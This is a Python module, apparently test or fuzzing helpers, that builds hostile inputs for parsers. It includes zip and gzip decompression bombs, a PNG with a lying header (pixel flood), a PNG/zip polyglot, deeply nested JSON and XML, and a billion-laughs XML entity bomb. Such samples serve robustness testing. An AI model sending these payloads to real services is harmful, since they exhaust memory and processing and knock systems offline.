"""Builders of hostile bytes, small on disk and large in effect."""

import gzip
import io
import struct
import zipfile
import zlib


def zip_bomb(size=512 << 20):
    """A zip of some 500 kB that unpacks to `size` zero bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as entry:
        for _ in range(size >> 20):
            entry.write(bytes(1 << 20))
    return out.getvalue()


def gzip_bomb(size=512 << 20):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as file:
        for _ in range(size >> 20):
            file.write(bytes(1 << 20))
    return out.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width=8, height=8, claimed=None):
    """A real picture; `claimed` (width, height) lies in its header (a pixel flood)."""
    header = struct.pack(">IIBBBBB", *(claimed or (width, height)), 8, 2, 0, 0, 0)
    pixels = zlib.compress((b"\0" + bytes(3 * width)) * height)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def truncated(whole):
    return whole[: len(whole) // 2]


def polyglot():
    """A picture that is also a zip archive: what it is depends on who looks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hidden.txt", "inside")
    return png() + out.getvalue()


def deep_json(depth=200_000):
    return b"[" * depth + b"]" * depth


def deep_xml(depth=200_000):
    return b"<a>" * depth + b"</a>" * depth


def billion_laughs():
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE a [<!ENTITY l0 "ha">{entities}]><a>&l9;</a>'.encode()
